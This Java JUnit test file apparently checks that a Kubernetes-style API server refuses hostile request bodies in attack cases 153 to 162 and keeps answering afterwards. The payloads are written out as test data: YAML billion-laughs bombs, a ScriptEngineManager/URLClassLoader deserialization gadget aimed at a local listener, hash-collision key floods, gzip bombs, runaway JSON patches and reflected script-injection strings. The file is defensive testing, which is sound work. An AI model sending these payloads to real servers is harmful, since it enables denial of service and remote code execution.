package dev.sallyport.server.live;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.sallyport.server.live.LiveServer.Reply;
import java.io.ByteArrayOutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.channels.ServerSocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Attack cases 153 to 162: bodies that cost more than they weigh, or that two readers could
 * understand differently. After each of them the server goes on answering.
 */
final class BodyAttackTest {

  private static final String MAPS = "/api/v1/namespaces/default/configmaps";
  private static final String JSON = "Content-Type: application/json";
  private static final String YAML = "Content-Type: application/yaml";
  private static final int LIMIT = 3 * 1024 * 1024;

  @TempDir static Path folder;
  private static LiveServer server;

  @BeforeAll
  static void start() throws Exception {
    server = LiveServer.start(folder, "");
  }

  @AfterAll
  static void stop() throws Exception {
    server.close();
  }

  private static Reply send(String method, String target, byte[] body, String... headers)
      throws Exception {
    String[] all = new String[headers.length + 1];
    all[0] = "Authorization: Bearer master";
    System.arraycopy(headers, 0, all, 1, headers.length);
    try (LiveLine line = server.line()) {
      return line.exchange(method, target, body, all);
    }
  }

  private static Reply post(String body, String... headers) throws Exception {
    return post(body.getBytes(StandardCharsets.UTF_8), headers);
  }

  private static Reply post(byte[] body, String... headers) throws Exception {
    return send("POST", MAPS, body, headers.length == 0 ? new String[] {JSON} : headers);
  }

  private static String map(String name, String more) {
    return ("{'kind':'ConfigMap','apiVersion':'v1','metadata':{'name':'" + name + "'}" + more + "}")
        .replace('\'', '"');
  }

  private static void refused(Reply reply, int... codes) throws Exception {
    boolean one = false;
    for (int code : codes) {
      one |= reply.status() == code;
    }
    assertTrue(one, reply.head() + reply.body());
    assertTrue(reply.body().contains("\"kind\":\"Status\""), reply.body());
    assertTrue(reply.body().length() < 100_000, "a refusal of " + reply.body().length());
    assertFalse(reply.body().contains("Exception"), reply.body());
    assertEquals(200, server.get("/livez").status());
  }

  @Test
  void case153NothingBeyondTheLimitIsRead() throws Exception {
    String padded = map("large", "") + " ".repeat(LIMIT);
    refused(post(padded), 413);
    String chunked = "100000\r\n" + " ".repeat(0x100000) + "\r\n";
    StringBuilder pieces = new StringBuilder();
    for (int i = 0; i < 4; i++) {
      pieces.append(chunked);
    }
    Reply reply =
        server.send(
            null,
            "POST",
            MAPS,
            "",
            "Authorization: Bearer master",
            JSON,
            "Transfer-Encoding: chunked",
            "Connection: close\r\n\r\n" + pieces + "0");
    assertEquals(413, reply.status(), reply.body());
    // The same length as data is refused for what it is, not for its length.
    assertEquals(201, post(map("padded", "") + " ".repeat(LIMIT - 200)).status());
  }

  @Test
  void case154YamlThatUnfoldsIsRefused() throws Exception {
    StringBuilder bomb = new StringBuilder("a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n");
    for (int i = 1; i < 12; i++) {
      bomb.append("a%d: &a%d [".formatted(i, i));
      bomb.append("*a%d,".formatted(i - 1).repeat(10)).append("]\n");
    }
    refused(post(bomb.toString(), YAML), 400, 413);
    refused(post("a: &a [*a]\n", YAML), 400);
    refused(post("&a a: *a\nb: &b {c: *b}\n", YAML), 400);
    refused(post("[".repeat(1 << 20), YAML), 400);
    refused(post("{a: ".repeat(1 << 18), YAML), 400);
    refused(post("- ".repeat(1 << 18), YAML), 400);
    // Scalars whose ends are looked for again and again cost a scanner the square of their length.
    refused(post("a: \"" + "\\\n ".repeat(1 << 18), YAML), 400);
    refused(post("? ".repeat(1 << 16), YAML), 400);
    refused(post("a: |\n" + " \n".repeat(1 << 19) + "b", YAML), 400);
    refused(post("!<" + "a".repeat(1 << 20), YAML), 400);
    refused(post("&" + "a".repeat(1 << 20) + " b", YAML), 400);
  }

  @Test
  void case155NoTagMakesAnObject() throws Exception {
    try (ServerSocketChannel attacker = ServerSocketChannel.open()) {
      attacker.bind(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0));
      attacker.configureBlocking(false);
      String url = "http://127.0.0.1:" + attacker.socket().getLocalPort() + "/";
      String loader =
          "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\""
              + url
              + "\"]]]]";
      for (String tag : new String[] {loader, "!!java.net.URL [\"" + url + "\"]", "!x y"}) {
        refused(post("kind: ConfigMap\napiVersion: v1\nmetadata: " + tag + "\n", YAML), 400);
        refused(post(tag + "\n", YAML), 400);
        String log = "--audit-log-path=" + folder.resolve("audit.log");
        Path refused = Files.createDirectories(folder.resolve("refused"));
        Path file = Files.writeString(folder.resolve("tagged.yaml"), "kind: " + tag + "\n");
        for (String flag :
            new String[] {
              "--authentication-config",
              "--authorization-config",
              "--audit-policy-file",
              "--authentication-token-webhook-config-file"
            }) {
          Exception failure =
              assertThrows(
                  Exception.class,
                  () -> LiveServer.start(refused, "", flag + "=" + file, log).close(),
                  flag + " took " + tag);
          assertTrue(failure.toString().contains(flag), failure.toString());
        }
      }
      assertNull(attacker.accept(), "a tag has fetched something");
    }
  }

  @Test
  void case156DepthAndEqualHashesAreBounded() throws Exception {
    refused(post(map("deep", ",'data':" + "[".repeat(10_001) + "]".repeat(10_001))), 400);
    refused(post("{\"a\":".repeat(10_001) + "1" + "}".repeat(10_001)), 400);
    refused(post("[".repeat(LIMIT)), 400);
    StringBuilder data = new StringBuilder(",'data':{");
    StringBuilder unknown = new StringBuilder();
    for (int i = 0; i < 70_000; i++) {
      String key = equalHash(i);
      data.append(i == 0 ? "'" : ",'").append(key).append("':''");
      unknown.append(",'").append(key).append("':1");
    }
    refused(post(map("hashes", data + "}")), 413);
    String odd = map("hashes", unknown.toString());
    refused(
        send("POST", MAPS + "?fieldValidation=Strict", odd.getBytes(StandardCharsets.UTF_8), JSON),
        400);
    Reply warned = post(odd);
    assertEquals(201, warned.status(), warned.head());
    assertTrue(warned.head().length() < 16_000, "warnings of " + warned.head().length());
  }

  /** Texts of 34 letters that all have one hash code. */
  private static String equalHash(int number) {
    StringBuilder key = new StringBuilder(34);
    for (int bit = 0; bit < 17; bit++) {
      key.append((number >> bit & 1) == 0 ? "Aa" : "BB");
    }
    return key.toString();
  }

  @Test
  void case158OnlyJsonIsReadAsJson() throws Exception {
    byte[] latin = map("latin", ",'data':{'k':'\u00e4'}").getBytes(StandardCharsets.ISO_8859_1);
    refused(post(latin), 400);
    refused(post(map("lone", ",'data':{'k':'\\ud800'}")), 400);
    refused(post("\ufeff" + map("bom", "")), 400);
    refused(post(map("nan", ",'immutable':NaN")), 400);
    refused(post(map("two", "") + map("two", "")), 400);
    refused(post("[" + map("array", "") + "]"), 400);
    refused(post("\"text\""), 400);
    refused(post(map("comment", "/* */")), 400);
    refused(post(map("comma", ",")), 400);
    refused(post("{'kind':'ConfigMap'}"), 400);
    // Names count by letter: this object has no metadata and so no name.
    refused(post(map("cased", "").replace("\"metadata\"", "\"Metadata\"")), 422);
    String doubled = map("once", "").replace("{\"name\"", "{\"name\":\"other\",\"name\"");
    byte[] body = doubled.getBytes(StandardCharsets.UTF_8);
    refused(send("POST", MAPS + "?fieldValidation=Strict", body, JSON), 400);
    Reply warned = post(body);
    assertEquals(201, warned.status(), warned.body());
    assertTrue(warned.head().contains("duplicate field"), warned.head());
  }

  @Test
  void case159OnlyKnownTypesAreRead() throws Exception {
    String body = map("typed", "");
    for (String type :
        new String[] {
          "text/plain",
          "application/x-www-form-urlencoded",
          "multipart/form-data; boundary=x",
          "text/html",
          "application/xml",
          "*/*",
          "json"
        }) {
      refused(post(body, "Content-Type: " + type), 415);
    }
    assertEquals(406, post(body, JSON, "Accept: text/csv").status());
    assertEquals(404, send("GET", MAPS + "/typed", new byte[0]).status(), "406 wrote the object");
    assertEquals(
        406,
        send(
                "GET",
                "/api/v1/namespaces/default/configmaps?watch=1",
                new byte[0],
                "Accept: application/yaml")
            .status());
    // Patches are JSON or YAML, never protobuf.
    assertEquals(
        415,
        send(
                "PATCH",
                MAPS + "/typed",
                body.getBytes(StandardCharsets.UTF_8),
                "Content-Type: application/vnd.kubernetes.protobuf")
            .status());
  }

  @Test
  void case160CompressedBodiesAreNotUnfolded() throws Exception {
    ByteArrayOutputStream packed = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
      gzip.write(map("packed", " ".repeat(1 << 22)).getBytes(StandardCharsets.UTF_8));
    }
    for (String coding :
        new String[] {"gzip", "GZIP", "deflate", "br", "zstd", "snappy", "gzip, gzip", "x-gzip"}) {
      refused(post(packed.toByteArray(), JSON, "Content-Encoding: " + coding), 415, 400);
      refused(post(map("packed", ""), JSON, "Content-Encoding: " + coding), 415, 400);
      byte[] patch = "{}".getBytes(StandardCharsets.UTF_8);
      String type = "Content-Type: application/merge-patch+json";
      refused(send("PATCH", MAPS + "/x", patch, type, "Content-Encoding: " + coding), 415, 400);
      refused(send("DELETE", MAPS + "/x", patch, JSON, "Content-Encoding: " + coding), 415, 400);
    }
    assertEquals(404, send("GET", MAPS + "/packed", new byte[0]).status());
  }

  private static Reply patch(String type, String body) throws Exception {
    return send(
        "PATCH",
        MAPS + "/patched",
        body.getBytes(StandardCharsets.UTF_8),
        "Content-Type: application/" + type);
  }

  @Test
  void case161PatchesCannotGrow() throws Exception {
    assertEquals(201, post(map("patched", ",'data':{'a':'" + "x".repeat(1000) + "'}")).status());
    String operation = ",{\"op\":\"test\",\"path\":\"/kind\",\"value\":\"ConfigMap\"}";
    refused(patch("json-patch+json", "[" + operation.repeat(10_001).substring(1) + "]"), 413);
    assertEquals(
        200, patch("json-patch+json", "[" + operation.repeat(10_000).substring(1) + "]").status());
    StringBuilder doubling = new StringBuilder("[");
    for (int i = 0; i < 64; i++) {
      doubling.append(i == 0 ? "" : ",");
      doubling.append("{\"op\":\"copy\",\"from\":\"/data\",\"path\":\"/data/n%d\"}".formatted(i));
    }
    refused(patch("json-patch+json", doubling + "]"), 413, 422);
    refused(patch("merge-patch+json", "{\"a\":".repeat(10_001) + "1" + "}".repeat(10_001)), 400);
    refused(
        patch("strategic-merge-patch+json", "{\"a\":".repeat(10_001) + "1" + "}".repeat(10_001)),
        400);
    String wide = "{\"data\":{\"k\":\"" + "y".repeat(LIMIT - 100) + "\"}}";
    refused(patch("merge-patch+json", wide), 413, 422);
    Reply after = send("GET", MAPS + "/patched", new byte[0]);
    assertTrue(after.body().length() < 2000, "the object grew");
  }

  @Test
  void case162ParametersAreToldApartAndNeverReflected() throws Exception {
    byte[] none = new byte[0];
    refused(send("GET", MAPS + "?timeout=abc", none), 400);
    refused(send("GET", MAPS + "?resourceVersion=abc", none), 400, 422);
    refused(send("GET", MAPS + "?resourceVersion=-1", none), 400, 422);
    refused(send("GET", MAPS + "?limit=x", none), 400);
    refused(send("GET", MAPS + "?timeoutSeconds=x", none), 400);
    assertEquals(200, send("GET", MAPS + "?limit=-1", none).status());
    String script = "%3Cscript%3Ealert(1)%3C/script%3E";
    for (String target :
        new String[] {
          MAPS + "?labelSelector=" + script,
          MAPS + "?fieldSelector=" + script + "%3D1",
          MAPS + "?resourceVersion=" + script,
          MAPS + "?timeout=" + script,
          MAPS + "?continue=" + script,
          MAPS + "?dryRun=" + script,
          MAPS + "/" + script,
          "/api/v1/" + script,
          "/" + script
        }) {
      Reply reply =
          send("GET", target, none, "Origin: https://evil.test", "User-Agent: Mozilla/5.0");
      assertFalse(reply.body().contains("<"), target + ": " + reply.body());
      assertFalse(reply.head().contains("ccess-control"), reply.head());
      boolean json = reply.head().contains("content-type: application/json");
      assertTrue(json || reply.head().contains("x-content-type-options: nosniff"), reply.head());
    }
    Reply preflight =
        send(
            "OPTIONS",
            MAPS,
            none,
            "Origin: https://evil.test",
            "Access-Control-Request-Method: POST");
    assertEquals(405, preflight.status());
    assertFalse(preflight.head().contains("ccess-control"), preflight.head());
    assertTrue(server.get("/x" + script).head().contains("nosniff"));
  }
}
